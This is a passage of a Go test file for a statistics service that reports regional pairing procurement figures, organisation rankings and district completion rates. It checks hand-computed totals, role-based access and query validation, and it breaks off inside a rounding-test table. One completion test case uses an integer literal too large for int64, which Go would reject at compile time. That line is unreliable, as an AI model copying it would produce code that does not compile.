package stats_test

// The statistics over rollup rows inserted straight into the database (the
// ledger that feeds them is tested with it): every expected figure below is
// worked out by hand from those rows, never read back from the service.

import (
	"bytes"
	"cmp"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"math"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/xuri/excelize/v2"
	"gorm.io/gorm"
	"gorm.io/gorm/clause"

	"shanhai/model"
	"shanhai/model/store"
	"shanhai/model/store/storetest"
	"shanhai/service/stats"
)

// fixture is what seed inserted.
type fixture struct {
	st *store.Store
	// P1 绍兴–乐山 (city) holds P2 上虞–金口河 and P3 柯桥–峨边; P5 柯桥–金川
	// (Aba) is outside it; P4 越城–马边; P6 柯桥–江山 and P7 绍兴–衢州 have no
	// figures.
	p map[string]int64
	// orgs: A supervises A1 (which supervises A1a), A2, A3 and A4; B and C
	// are top-level.
	org map[string]*model.Org
}

func mustCreate(t testing.TB, st *store.Store, v any) {
	t.Helper()
	if err := st.Gorm().Create(v).Error; err != nil {
		t.Fatalf("insert %T: %v", v, err)
	}
	if r, ok := v.(*model.RollupSale); ok {
		addFacets(t, st, r)
	}
}

// addFacets adds a rollup_sales row to the rollup_facets rows it counts in,
// as the rollup worker does.
func addFacets(t testing.TB, st *store.Store, r *model.RollupSale) {
	t.Helper()
	for _, f := range r.Facets() {
		err := st.Gorm().Clauses(clause.OnConflict{
			Columns:   []clause.Column{{Name: "period"}, {Name: "facet"}, {Name: "code"}, {Name: "pairing_id"}},
			DoUpdates: clause.Assignments(map[string]any{"cents": gorm.Expr("cents + ?", f.Cents), "orders": gorm.Expr("orders + ?", f.Orders)}),
		}).Create(&f).Error
		if err != nil {
			t.Fatalf("add %+v: %v", f, err)
		}
	}
}

func seed(t testing.TB, st *store.Store) *fixture {
	t.Helper()
	f := &fixture{st: st, p: map[string]int64{}, org: map[string]*model.Org{}}
	for _, p := range []struct {
		name, programme, level, helper, partner string
	}{
		{"P1", model.ProgrammeEastWest, model.LevelCity, "330600", "511100"},
		{"P2", model.ProgrammeEastWest, model.LevelCounty, "330604", "511113"},
		{"P3", model.ProgrammeEastWest, model.LevelCounty, "330603", "511132"},
		{"P4", model.ProgrammeEastWest, model.LevelCounty, "330602", "511133"},
		{"P5", model.ProgrammeEastWest, model.LevelCounty, "330603", "513226"},
		{"P6", model.ProgrammeMountainSea, model.LevelCounty, "330603", "330881"},
		{"P7", model.ProgrammeMountainSea, model.LevelCity, "330600", "330800"},
	} {
		row := &model.Pairing{Programme: p.programme, Level: p.level, HelperCode: p.helper, PartnerCode: p.partner,
			SinceYear: 2021, Active: true}
		mustCreate(t, st, row)
		f.p[p.name] = row.ID
	}
	for name, cents := range map[string]int64{"P1": 10000, "P2": 3000, "P3": 2000, "P4": 1000} {
		mustCreate(t, st, &model.Target{PairingID: f.p[name], Year: 2026, TargetCents: cents})
	}
	// a target of another year must not leak in
	mustCreate(t, st, &model.Target{PairingID: f.p["P5"], Year: 2025, TargetCents: 999})

	const d, a = model.CreditDirect, model.CreditAssisted
	type entry struct {
		period        int
		pairing       string // "" not credited
		reason, kind  string
		buyer, origin string
		cents, orders int64
		channel       string
	}
	entries := []entry{
		// March
		{202603, "P2", "", d, "330604", "511113", 3000, 2, model.OrgCanteen},
		// May
		{202605, "P2", "", a, "330604", "511113", 1340, 1, model.OrgSupermarket},
		{202605, "P1", "", d, "330603", "511113", 1000, 1, model.OrgCanteen}, // a Keqiao buyer from Jinkouhe: the city pairing
		{202605, "P3", "", d, "330603", "511132", 2000, 1, model.OrgUnion},
		{202605, "P5", "", d, "330603", "513226", 500, 1, model.OrgCanteen},
		{202605, "", model.ReasonNoPairing, d, "330683", "331102", 70, 1, "app"},
		{202605, "", model.ReasonUncertified, d, "330604", "511113", 30, 1, model.OrgCanteen},
		// another year: never counted in 2026
		{202512, "P2", "", d, "330604", "511113", 99999, 9, model.OrgCanteen},
	}
	saleRows := map[model.RollupSale]*model.RollupSale{}
	platformRows := map[model.RollupPlatform]*model.RollupPlatform{}
	pairingRows := map[model.RollupPairing]*model.RollupPairing{}
	areaRows := map[model.RollupArea]*model.RollupArea{}
	for _, e := range entries {
		var pid int64
		if e.pairing != "" {
			pid = f.p[e.pairing]
		}
		for _, period := range []int{e.period, e.period / 100 * 100} {
			pk := model.RollupPairing{Period: period, PairingID: pid, Reason: e.reason, Kind: e.kind, Channel: e.channel}
			if pairingRows[pk] == nil {
				r := pk
				pairingRows[pk] = &r
			}
			pairingRows[pk].Cents += e.cents
			pairingRows[pk].Orders += e.orders
			ak := model.RollupArea{Period: period, PairingID: pid, Reason: e.reason, Kind: e.kind, BuyerRegion: e.buyer, OriginCode: e.origin}
			if areaRows[ak] == nil {
				r := ak
				areaRows[ak] = &r
			}
			areaRows[ak].Cents += e.cents
			areaRows[ak].Orders += e.orders
			sk := model.RollupSale{Period: period, PairingID: pid, Reason: e.reason, Kind: e.kind, Channel: e.channel,
				Platform: model.PlatformMall, BuyerRegion: e.buyer, OriginCode: e.origin}
			if saleRows[sk] == nil {
				r := sk
				saleRows[sk] = &r
			}
			saleRows[sk].Cents += e.cents
			saleRows[sk].Orders += e.orders
			fk := model.RollupPlatform{Period: period, PairingID: pid, Mall: true, BuyerRegion: e.buyer, OriginCode: e.origin}
			if platformRows[fk] == nil {
				r := fk
				platformRows[fk] = &r
			}
			platformRows[fk].Cents += e.cents
			platformRows[fk].Orders += e.orders
		}
	}
	for _, r := range saleRows {
		mustCreate(t, st, r)
	}
	for _, r := range platformRows {
		mustCreate(t, st, r)
	}
	for _, r := range pairingRows {
		mustCreate(t, st, r)
	}
	for _, r := range areaRows {
		mustCreate(t, st, r)
	}

	org := func(name, region string, parent string) {
		o := &model.Org{Name: name, Kind: model.OrgCanteen, RegionCode: region, PaymentTerms: model.TermsPrepay,
			CreditKind: model.CreditDirect}
		if parent != "" {
			o.ParentID = &f.org[parent].ID
		}
		if err := st.CreateOrg(context.Background(), o); err != nil {
			t.Fatal(err)
		}
		f.org[name] = o
	}
	org("A", "330604", "")
	org("A1", "330604", "A")
	org("A1a", "330604", "A1")
	org("A2", "330604", "A")
	org("A3", "330604", "A")
	org("A4", "330604", "A")
	org("B", "330603", "")
	org("C", "330602", "")
	for name, r := range map[string][6]int64{
		"A":   {500, 400, 300, 5500, 4400, 3300},
		"A1":  {1000, 800, 700, 3000, 2400, 2000},
		"A1a": {2000, 1600, 1300, 2000, 1600, 1300},
		"A2":  {1000, 1000, 1000, 1000, 1000, 1000},
		"A4":  {1000, 1000, 900, 1000, 1000, 900},
		"B":   {2000, 1500, 1500, 2000, 1500, 1500},
		"C":   {100, 100, 100, 100, 100, 100},
	} {
		mustCreate(t, st, &model.RollupOrg{Period: 202600, OrgID: f.org[name].ID, Cents: r[0], CertifiedCents: r[1],
			CreditedCents: r[2], SubtreeCents: r[3], SubtreeCertifiedCents: r[4], SubtreeCreditedCents: r[5]})
	}
	// another year's row must not leak in
	mustCreate(t, st, &model.RollupOrg{Period: 202500, OrgID: f.org["A3"].ID, Cents: 7, CertifiedCents: 7,
		SubtreeCents: 7, SubtreeCertifiedCents: 7})
	for name, fl := range map[string]struct {
		budget int64
		status string
	}{
		"A":  {100000, model.FilingApproved}, // reserved 10000
		"A1": {30000, model.FilingSubmitted}, // 3000
		"A2": {12500, model.FilingApproved},  // 1250
		"A4": {12500, model.FilingApproved},  // 1250
		"B":  {50005, model.FilingApproved},  // 5000.5 → 5001, half up
		"C":  {100000, model.FilingDraft},    // not counted
	} {
		mustCreate(t, st, &model.Filing{OrgID: f.org[name].ID, Year: 2026, CanteenStatus: model.CanteenHas,
			FoodBudgetCents: fl.budget, ReservedRatioBP: 1000, Status: fl.status})
	}
	return f
}

var (
	admin          = &model.User{ID: 1, Role: model.RoleAdmin}
	shangyuOfficer = officer("330604")
	keqiaoOfficer  = officer("330603")
	jinkouhe       = officer("511113")
)

func officer(region string) *model.User {
	return &model.User{ID: 2, Role: model.RoleOfficer, RegionCode: &region}
}

func orgAdmin(o *model.Org) *model.User {
	return &model.User{ID: 3, Role: model.RoleOrgAdmin, OrgID: &o.ID}
}

func ptr[T any](v T) *T { return &v }

var year2026 = stats.Query{Period: stats.Period{Year: 2026}}

func fmtRatio(r *stats.Ratio) string {
	if r == nil {
		return "null"
	}
	return r.String()
}

func fmtCents(c *int64) string {
	if c == nil {
		return "null"
	}
	return fmt.Sprint(*c)
}

// pairingLine is one row as the tests compare it.
func pairingLine(r stats.PairingRow) string {
	return fmt.Sprintf("target=%s credited=%d county=%d direct=%d assisted=%d completion=%s orders=%d",
		fmtCents(r.TargetCents), r.CreditedCents, r.CountyCents, r.DirectCents, r.AssistedCents, fmtRatio(r.Completion), r.Orders)
}

func byPairing(f *fixture, r *stats.PairingReport) map[string]string {
	names := map[int64]string{}
	for n, id := range f.p {
		names[id] = n
	}
	out := map[string]string{}
	for _, it := range r.Items {
		out[names[it.Pairing.ID]] = pairingLine(it)
	}
	return out
}

func wantLines(t *testing.T, got, want map[string]string) {
	t.Helper()
	for k, w := range want {
		if got[k] != w {
			t.Errorf("%s:\n got %s\nwant %s", k, got[k], w)
		}
	}
	for k := range got {
		if _, ok := want[k]; !ok {
			t.Errorf("%s listed: %s", k, got[k])
		}
	}
}

func notCredited(r *stats.PairingReport) string {
	var parts []string
	for _, nc := range r.NotCredited {
		parts = append(parts, fmt.Sprintf("%s=%d", nc.Reason, nc.Cents))
	}
	return fmt.Sprintf("%d [%s]", r.NotCreditedCents, strings.Join(parts, " "))
}

func TestPairings(t *testing.T) {
	storetest.Each(t, func(t *testing.T, b storetest.Backend) {
		f := seed(t, b.Store)
		s := stats.New(b.Store, nil, b.Store)
		ctx := context.Background()

		t.Run("admin year", func(t *testing.T) {
			r, err := s.Pairings(ctx, admin, stats.Query{Period: stats.Period{Year: 2026, Month: 0}})
			if err != nil {
				t.Fatal(err)
			}
			wantLines(t, byPairing(f, r), map[string]string{
				// own 1000 + the county part: P2 3000+1340, P3 2000 (P5 is in Aba, not Leshan)
				"P1": "target=10000 credited=7340 county=6340 direct=6000 assisted=1340 completion=0.7340 orders=5",
				"P2": "target=3000 credited=4340 county=0 direct=3000 assisted=1340 completion=1.4467 orders=3",
				"P3": "target=2000 credited=2000 county=0 direct=2000 assisted=0 completion=1.0000 orders=1",
				"P4": "target=1000 credited=0 county=0 direct=0 assisted=0 completion=0.0000 orders=0",
				"P5": "target=null credited=500 county=0 direct=500 assisted=0 completion=null orders=1",
				"P6": "target=null credited=0 county=0 direct=0 assisted=0 completion=null orders=0",
				"P7": "target=null credited=0 county=0 direct=0 assisted=0 completion=null orders=0",
			})
			if got, want := notCredited(r), "100 [no_pairing=70 uncertified=30 certificate_expired=0 certificate_revoked=0 no_buyer_region=0]"; got != want {
				t.Errorf("not credited = %s, want %s", got, want)
			}
			if r.Year != 2026 || r.Month != 0 {
				t.Errorf("year, month = %d, %d", r.Year, r.Month)
			}
			b, _ := json.Marshal(r.Items[0].Completion)
			if string(b) != "0.734" {
				t.Errorf("completion JSON = %s, want 0.734", b)
			}
		})

		t.Run("admin month", func(t *testing.T) {
			r, err := s.Pairings(ctx, admin, stats.Query{Period: stats.Period{Year: 2026, Month: 5}})
			if err != nil {
				t.Fatal(err)
			}
			got := byPairing(f, r)
			// the annual target is shown; completion is for the year only
			if want := "target=10000 credited=4340 county=3340 direct=3000 assisted=1340 completion=null orders=3"; got["P1"] != want {
				t.Errorf("P1 in May: %s, want %s", got["P1"], want)
			}
			if want := "target=3000 credited=1340 county=0 direct=0 assisted=1340 completion=null orders=1"; got["P2"] != want {
				t.Errorf("P2 in May: %s, want %s", got["P2"], want)
			}
			if r.Month != 5 || r.NotCreditedCents != 100 {
				t.Errorf("month %d, not credited %d", r.Month, r.NotCreditedCents)
			}
			r, err = s.Pairings(ctx, admin, stats.Query{Period: stats.Period{Year: 2026, Month: 3}})
			if err != nil {
				t.Fatal(err)
			}
			if got := byPairing(f, r)["P1"]; got != "target=10000 credited=3000 county=3000 direct=3000 assisted=0 completion=null orders=2" {
				t.Errorf("P1 in March: %s", got)
			}
		})

		t.Run("helper officer", func(t *testing.T) {
			r, err := s.Pairings(ctx, shangyuOfficer, stats.Query{Period: stats.Period{Year: 2026, Month: 0}})
			if err != nil {
				t.Fatal(err)
			}
			// only Shangyu's buyers; the pairings whose helper region holds Shangyu
			wantLines(t, byPairing(f, r), map[string]string{
				"P1": "target=10000 credited=4340 county=4340 direct=3000 assisted=1340 completion=0.4340 orders=3",
				"P2": "target=3000 credited=4340 county=0 direct=3000 assisted=1340 completion=1.4467 orders=3",
				"P7": "target=null credited=0 county=0 direct=0 assisted=0 completion=null orders=0",
			})
			if got, want := notCredited(r), "30 [no_pairing=0 uncertified=30 certificate_expired=0 certificate_revoked=0 no_buyer_region=0]"; got != want {
				t.Errorf("not credited = %s, want %s", got, want)
			}
		})

		t.Run("partner officer", func(t *testing.T) {
			r, err := s.Pairings(ctx, jinkouhe, stats.Query{Period: stats.Period{Year: 2026, Month: 0}})
			if err != nil {
				t.Fatal(err)
			}
			// only sales from Jinkouhe; the pairings whose partner region holds it
			wantLines(t, byPairing(f, r), map[string]string{
				"P1": "target=10000 credited=5340 county=4340 direct=4000 assisted=1340 completion=0.5340 orders=4",
				"P2": "target=3000 credited=4340 county=0 direct=3000 assisted=1340 completion=1.4467 orders=3",
			})
			if got, want := notCredited(r), "30 [no_pairing=0 uncertified=30 certificate_expired=0 certificate_revoked=0 no_buyer_region=0]"; got != want {
				t.Errorf("not credited = %s, want %s", got, want)
			}
		})

		t.Run("city officer", func(t *testing.T) {
			r, err := s.Pairings(ctx, officer("330600"), stats.Query{Period: stats.Period{Year: 2026, Month: 0}})
			if err != nil {
				t.Fatal(err)
			}
			if got := byPairing(f, r)["P1"]; got != "target=10000 credited=7340 county=6340 direct=6000 assisted=1340 completion=0.7340 orders=5" {
				t.Errorf("P1 for the city: %s", got)
			}
			if r.NotCreditedCents != 100 {
				t.Errorf("not credited %d, want 100", r.NotCreditedCents)
			}
		})

		t.Run("empty year", func(t *testing.T) {
			r, err := s.Pairings(ctx, admin, stats.Query{Period: stats.Period{Year: 2030, Month: 0}})
			if err != nil {
				t.Fatal(err)
			}
			if len(r.NotCredited) != 5 || r.NotCreditedCents != 0 {
				t.Errorf("not credited = %s", notCredited(r))
			}
			for _, it := range r.Items {
				if it.CreditedCents != 0 || it.TargetCents != nil || it.Completion != nil {
					t.Errorf("%d: %s", it.Pairing.ID, pairingLine(it))
				}
			}
		})
	})
}

func TestMonthly(t *testing.T) {
	storetest.Each(t, func(t *testing.T, b storetest.Backend) {
		f := seed(t, b.Store)
		s := stats.New(b.Store, nil, b.Store)
		ctx := context.Background()
		line := func(m stats.MonthRow) string {
			return fmt.Sprintf("%d: credited=%d county=%d direct=%d assisted=%d orders=%d cumulative=%d completion=%s",
				m.Month, m.CreditedCents, m.CountyCents, m.DirectCents, m.AssistedCents, m.Orders, m.CumulativeCents, fmtRatio(m.Completion))
		}
		r, err := s.Monthly(ctx, admin, f.p["P1"], stats.Query{Period: stats.Period{Year: 2026}})
		if err != nil {
			t.Fatal(err)
		}
		if len(r.Months) != 12 || r.TargetCents == nil || *r.TargetCents != 10000 || r.Pairing.ID != f.p["P1"] {
			t.Fatalf("report = %+v", r)
		}
		for _, want := range []string{
			"1: credited=0 county=0 direct=0 assisted=0 orders=0 cumulative=0 completion=0.0000",
			"3: credited=3000 county=3000 direct=3000 assisted=0 orders=2 cumulative=3000 completion=0.3000",
			"4: credited=0 county=0 direct=0 assisted=0 orders=0 cumulative=3000 completion=0.3000",
			"5: credited=4340 county=3340 direct=3000 assisted=1340 orders=3 cumulative=7340 completion=0.7340",
			"12: credited=0 county=0 direct=0 assisted=0 orders=0 cumulative=7340 completion=0.7340",
		} {
			var m int
			fmt.Sscanf(want, "%d:", &m)
			if got := line(r.Months[m-1]); got != want {
				t.Errorf("got  %s\nwant %s", got, want)
			}
		}

		// a partner-side officer: Jinkouhe's sales only
		r, err = s.Monthly(ctx, jinkouhe, f.p["P1"], stats.Query{Period: stats.Period{Year: 2026}})
		if err != nil {
			t.Fatal(err)
		}
		if got, want := line(r.Months[4]), "5: credited=2340 county=1340 direct=1000 assisted=1340 orders=2 cumulative=5340 completion=0.5340"; got != want {
			t.Errorf("got  %s\nwant %s", got, want)
		}
		// a pairing outside the scope, and one that does not exist: 404
		for _, tc := range []struct {
			who *model.User
			id  int64
		}{{jinkouhe, f.p["P3"]}, {shangyuOfficer, f.p["P3"]}, {admin, 999999}} {
			if _, err := s.Monthly(ctx, tc.who, tc.id, stats.Query{Period: stats.Period{Year: 2026}}); !errors.Is(err, model.ErrNotFound) {
				t.Errorf("pairing %d: err = %v, want not found", tc.id, err)
			}
		}
		// no target: no completion
		r, err = s.Monthly(ctx, admin, f.p["P5"], stats.Query{Period: stats.Period{Year: 2026}})
		if err != nil {
			t.Fatal(err)
		}
		if r.TargetCents != nil || r.Months[4].Completion != nil || r.Months[4].CreditedCents != 500 {
			t.Errorf("P5 = %+v", r.Months[4])
		}
	})
}

// deref is *v, or the zero value (an org row's rank and filing status are
// nil for none).
func deref[T any](v *T) T {
	var zero T
	if v == nil {
		return zero
	}
	return *v
}

func orgLines(f *fixture, r *stats.OrgReport) []string {
	names := map[int64]string{}
	for n, o := range f.org {
		names[o.ID] = n
	}
	line := func(o stats.OrgRow) string {
		return fmt.Sprintf("%s #%d own=%d/%d/%d subtree=%d/%d/%d reserved=%s filing=%s completion=%s",
			names[o.Org.ID], deref(o.Rank), o.PurchasesCents, o.CertifiedCents, o.CreditedCents,
			o.SubtreePurchasesCents, o.SubtreeCertifiedCents, o.SubtreeCreditedCents,
			fmtCents(o.ReservedCents), deref(o.FilingStatus), fmtRatio(o.Completion))
	}
	var out []string
	if r.Parent != nil {
		out = append(out, "parent "+line(*r.Parent))
	}
	for _, o := range r.Items {
		out = append(out, line(o))
	}
	return out
}

func wantList(t *testing.T, got, want []string) {
	t.Helper()
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got\n  %s\nwant\n  %s", strings.Join(got, "\n  "), strings.Join(want, "\n  "))
	}
}

func TestOrgs(t *testing.T) {
	storetest.Each(t, func(t *testing.T, b storetest.Backend) {
		f := seed(t, b.Store)
		s := stats.New(b.Store, nil, b.Store)
		ctx := context.Background()
		get := func(who *model.User, parent int64) []string {
			t.Helper()
			r, err := s.Orgs(ctx, who, stats.Query{Period: stats.Period{Year: 2026}, ParentID: parent})
			if err != nil {
				t.Fatalf("orgs of %d: %v", parent, err)
			}
			return orgLines(f, r)
		}

		top := []string{
			"A #1 own=500/400/300 subtree=5500/4400/3300 reserved=10000 filing=approved completion=0.4400",
			"B #2 own=2000/1500/1500 subtree=2000/1500/1500 reserved=5001 filing=approved completion=0.2999",
			"C #3 own=100/100/100 subtree=100/100/100 reserved=null filing=draft completion=null",
		}
		wantList(t, get(admin, 0), top)

		// A's children: A1 and A2 tie on completion, A1 buys more; A2 and A4
		// tie on both and share a rank; A3 has no filing and comes last.
		children := []string{
			"parent A #0 own=500/400/300 subtree=5500/4400/3300 reserved=10000 filing=approved completion=0.4400",
			"A1 #1 own=1000/800/700 subtree=3000/2400/2000 reserved=3000 filing=submitted completion=0.8000",
			"A2 #2 own=1000/1000/1000 subtree=1000/1000/1000 reserved=1250 filing=approved completion=0.8000",
			"A4 #2 own=1000/1000/900 subtree=1000/1000/900 reserved=1250 filing=approved completion=0.8000",
			"A3 #4 own=0/0/0 subtree=0/0/0 reserved=null filing= completion=null",
		}
		wantList(t, get(admin, f.org["A"].ID), children)

		t.Run("org_admin", func(t *testing.T) {
			// their own org by default, with its own row
			wantList(t, get(orgAdmin(f.org["A"]), 0), children)
			// an org below theirs
			wantList(t, get(orgAdmin(f.org["A"]), f.org["A1"].ID), []string{
				"parent A1 #0 own=1000/800/700 subtree=3000/2400/2000 reserved=3000 filing=submitted completion=0.8000",
				"A1a #1 own=2000/1600/1300 subtree=2000/1600/1300 reserved=null filing= completion=null",
			})
			// above, beside, unrelated or missing: 404
			for _, tc := range []struct {
				who    string
				parent int64
			}{{"A1", f.org["A"].ID}, {"A1", f.org["A2"].ID}, {"A", f.org["B"].ID}, {"B", f.org["A"].ID}, {"A", 999999}} {
				if _, err := s.Orgs(ctx, orgAdmin(f.org[tc.who]), stats.Query{Period: stats.Period{Year: 2026}, ParentID: tc.parent}); !errors.Is(err, model.ErrNotFound) {
					t.Errorf("org_admin of %s asking for %d: err = %v, want not found", tc.who, tc.parent, err)
				}
			}
			// and nothing else
			for _, call := range []func() error{
				func() error {
					_, err := s.Pairings(ctx, orgAdmin(f.org["A"]), stats.Query{Period: stats.Period{Year: 2026}})
					return err
				},
				func() error {
					_, err := s.Districts(ctx, orgAdmin(f.org["A"]), stats.Query{Period: stats.Period{Year: 2026}})
					return err
				},
				func() error {
					_, err := s.Monthly(ctx, orgAdmin(f.org["A"]), f.p["P2"], stats.Query{Period: stats.Period{Year: 2026}})
					return err
				},
				func() error {
					_, err := s.Export(ctx, orgAdmin(f.org["A"]), stats.ExportInput{Query: stats.Query{Period: stats.Period{Year: 2026}}, Table: stats.TableOrgs})
					return err
				},
			} {
				if err := call(); !errors.Is(err, model.ErrForbidden) {
					t.Errorf("err = %v, want forbidden", err)
				}
			}
		})

		t.Run("officers", func(t *testing.T) {
			wantList(t, get(keqiaoOfficer, 0), []string{
				"B #1 own=2000/1500/1500 subtree=2000/1500/1500 reserved=5001 filing=approved completion=0.2999"})
			wantList(t, get(shangyuOfficer, 0), top[:1])
			if _, err := s.Orgs(ctx, jinkouhe, stats.Query{Period: stats.Period{Year: 2026}, ParentID: 0}); !errors.Is(err, model.ErrForbidden) {
				t.Errorf("partner officer: err = %v, want forbidden", err)
			}
			// a Shangyu parent asked by the Keqiao officer: no rows of it
			r, err := s.Orgs(ctx, keqiaoOfficer, stats.Query{Period: stats.Period{Year: 2026}, ParentID: f.org["A"].ID})
			if err != nil || r.Parent != nil || len(r.Items) != 0 {
				t.Errorf("Keqiao officer on A: %+v, %v", r, err)
			}
		})

		for _, who := range []*model.User{{Role: model.RoleConsumer}, {Role: model.RoleBuyer, OrgID: &f.org["A"].ID},
			{Role: model.RoleApprover, OrgID: &f.org["A"].ID}, {Role: model.RoleSupplier}, officer(""), officer("999999")} {
			if _, err := s.Orgs(ctx, who, stats.Query{Period: stats.Period{Year: 2026}, ParentID: 0}); !errors.Is(err, model.ErrForbidden) {
				t.Errorf("%s: err = %v, want forbidden", who.Role, err)
			}
			if _, err := s.Pairings(ctx, who, stats.Query{Period: stats.Period{Year: 2026, Month: 0}}); !errors.Is(err, model.ErrForbidden) {
				t.Errorf("%s: err = %v, want forbidden", who.Role, err)
			}
		}
	})
}

func districtLines(r *stats.DistrictReport) []string {
	var out []string
	for _, d := range r.Items {
		out = append(out, fmt.Sprintf("#%d %s %s target=%s credited=%d direct=%d assisted=%d orders=%d completion=%s",
			d.Rank, d.Region.Code, d.Region.Name, fmtCents(d.TargetCents), d.CreditedCents, d.DirectCents, d.AssistedCents,
			d.Orders, fmtRatio(d.Completion)))
	}
	return out
}

func TestDistricts(t *testing.T) {
	storetest.Each(t, func(t *testing.T, b storetest.Backend) {
		seed(t, b.Store)
		s := stats.New(b.Store, nil, b.Store)
		ctx := context.Background()
		get := func(who *model.User) []string {
			t.Helper()
			r, err := s.Districts(ctx, who, stats.Query{Period: stats.Period{Year: 2026}})
			if err != nil {
				t.Fatal(err)
			}
			return districtLines(r)
		}
		wantList(t, get(admin), []string{
			// 柯桥: P1's 1000 + P3's 2000 + P5's 500 against P3's target (P5 and P6 have none)
			"#1 330603 柯桥区 target=2000 credited=3500 direct=3500 assisted=0 orders=3 completion=1.7500",
			"#2 330604 上虞区 target=3000 credited=4340 direct=3000 assisted=1340 orders=3 completion=1.4467",
			"#3 330602 越城区 target=1000 credited=0 direct=0 assisted=0 orders=0 completion=0.0000",
			// no target: nulls last, all equal
			"#4 330624 新昌县 target=null credited=0 direct=0 assisted=0 orders=0 completion=null",
			"#4 330681 诸暨市 target=null credited=0 direct=0 assisted=0 orders=0 completion=null",
			"#4 330683 嵊州市 target=null credited=0 direct=0 assisted=0 orders=0 completion=null",
		})
		wantList(t, get(shangyuOfficer), []string{
			"#1 330604 上虞区 target=3000 credited=4340 direct=3000 assisted=1340 orders=3 completion=1.4467",
		})
		// Jinkouhe's view: every district by its purchases from Jinkouhe,
		// against the targets of the pairings with Jinkouhe
		wantList(t, get(jinkouhe), []string{
			"#1 330604 上虞区 target=3000 credited=4340 direct=3000 assisted=1340 orders=3 completion=1.4467",
			"#2 330603 柯桥区 target=null credited=1000 direct=1000 assisted=0 orders=1 completion=null",
			"#3 330602 越城区 target=null credited=0 direct=0 assisted=0 orders=0 completion=null",
			"#3 330624 新昌县 target=null credited=0 direct=0 assisted=0 orders=0 completion=null",
			"#3 330681 诸暨市 target=null credited=0 direct=0 assisted=0 orders=0 completion=null",
			"#3 330683 嵊州市 target=null credited=0 direct=0 assisted=0 orders=0 completion=null",
		})
	})
}

// TestQueryRules: the year (model.CheckYear), month and parent rules, every
// bad field named in one error.
func TestQueryRules(t *testing.T) {
	storetest.Each(t, func(t *testing.T, b storetest.Backend) {
		seed(t, b.Store)
		s := stats.New(b.Store, nil, b.Store)
		ctx := context.Background()
		for _, tc := range []struct {
			name   string
			call   func() error
			fields []string
		}{
			{"pairings 1999", func() error {
				_, err := s.Pairings(ctx, admin, stats.Query{Period: stats.Period{Year: 1999, Month: 0}})
				return err
			}, []string{"year"}},
			{"pairings 2101", func() error {
				_, err := s.Pairings(ctx, admin, stats.Query{Period: stats.Period{Year: 2101, Month: 0}})
				return err
			}, []string{"year"}},
			{"pairings 0/-1", func() error {
				_, err := s.Pairings(ctx, admin, stats.Query{Period: stats.Period{Year: 0, Month: -1}})
				return err
			}, []string{"year", "month"}},
			{"pairings month 13", func() error {
				_, err := s.Pairings(ctx, admin, stats.Query{Period: stats.Period{Year: 2026, Month: 13}})
				return err
			}, []string{"month"}},
			{"monthly 1999", func() error {
				_, err := s.Monthly(ctx, admin, 1, stats.Query{Period: stats.Period{Year: 1999}})
				return err
			}, []string{"year"}},
			{"orgs 2101/-3", func() error {
				_, err := s.Orgs(ctx, admin, stats.Query{Period: stats.Period{Year: 2101}, ParentID: -3})
				return err
			}, []string{"year", "parent_id"}},
			{"districts 1999", func() error {
				_, err := s.Districts(ctx, admin, stats.Query{Period: stats.Period{Year: 1999}})
				return err
			}, []string{"year"}},
			{"range and year", func() error {
				_, err := s.Pairings(ctx, admin, stats.Query{Period: stats.Period{Year: 2026, Month: 3, From: 202101, To: 202612}})
				return err
			}, []string{"year", "month"}},
			{"range backwards", func() error {
				_, err := s.Pairings(ctx, admin, stats.Query{Period: stats.Period{From: 202602, To: 202601}})
				return err
			}, []string{"to"}},
			{"range half given", func() error {
				_, err := s.Districts(ctx, admin, stats.Query{Period: stats.Period{From: 202102}})
				return err
			}, []string{"to"}},
			{"range month 13", func() error {
				_, err := s.Districts(ctx, admin, stats.Query{Period: stats.Period{From: 202113, To: 199901}})
				return err
			}, []string{"from", "to"}},
			{"programme unknown", func() error {
				_, err := s.Pairings(ctx, admin, stats.Query{Period: stats.Period{Year: 2026}, Programme: "east-west"})
				return err
			}, []string{"programme"}},
			{"orgs per programme", func() error {
				_, err := s.Orgs(ctx, admin, stats.Query{Period: stats.Period{Year: 2026}, Programme: model.ProgrammeEastWest})
				return err
			}, []string{"programme"}},
			{"orgs over a range", func() error {
				_, err := s.Orgs(ctx, admin, stats.Query{Period: stats.Period{From: 202601, To: 202612}})
				return err
			}, []string{"from"}},
			{"monthly of a month", func() error {
				_, err := s.Monthly(ctx, admin, 1, stats.Query{Period: stats.Period{Year: 2026, Month: 2}})
				return err
			}, []string{"year"}},
			{"pairings 2000", func() error {
				_, err := s.Pairings(ctx, admin, stats.Query{Period: stats.Period{Year: 2000, Month: 12}})
				return err
			}, nil},
			{"districts 2100", func() error {
				_, err := s.Districts(ctx, admin, stats.Query{Period: stats.Period{Year: 2100}})
				return err
			}, nil},
		} {
			err := tc.call()
			var got []string
			var e *model.Error
			if errors.As(err, &e) {
				for _, f := range e.Fields {
					got = append(got, f.Field)
				}
			}
			if (tc.fields == nil) != (err == nil) || (err != nil && !errors.Is(err, model.ErrInvalid)) ||
				strings.Join(got, ",") != strings.Join(tc.fields, ",") {
				t.Errorf("%s: %v (fields %v), want fields %v", tc.name, err, got, tc.fields)
			}
		}
	})
}

func TestCompletion(t *testing.T) {
	for _, tc := range []struct {
		num, den int64
		want     string // the four-place value, or "null"
		json     string
	}{
		{7340, 10000, "0.7340", "0.734"},
		{12345, 100000, "0.1235", "0.1235"}, // half up at the fifth place
		{12344, 100000, "0.1234", "0.1234"},
		{123449, 1000000, "0.1234", "0.1234"},
		{1, 3, "0.3333", "0.3333"},
		{2, 3, "0.6667", "0.6667"},
		{10000, 10000, "1.0000", "1"},
		{15, 10, "1.5000", "1.5"},
		{0, 5, "0.0000", "0"},
		{1, 20000, "0.0001", "0.0001"}, // 0.00005 rounds up
		{1, 20001, "0.0000", "0"},
		{-12345, 100000, "-0.1235", "-0.1235"}, // returns over sales: symmetric
		{-1, 20000, "-0.0001", "-0.0001"},
		// beyond int64 ten-thousandths: no wraparound, on the way or in the result
		{9_000_000_000_000_000, 3, "3000000000000000.0000", "3000000000000000"},
		{9_000_000_000_000_000_000, 3, "3000000000000000000.0000", "3000000000000000000"},
		{math.MaxInt64, 1, "9223372036854775807.0000", "9223372036854775807"},
		{math.MinInt64, 1, "-9223372036854775808.0000", "-9223372036854775808"},
		{math.MaxInt64, math.MaxInt64, "1.0000", "1"},
		{1, math.MaxInt64, "0.0000", "0"},
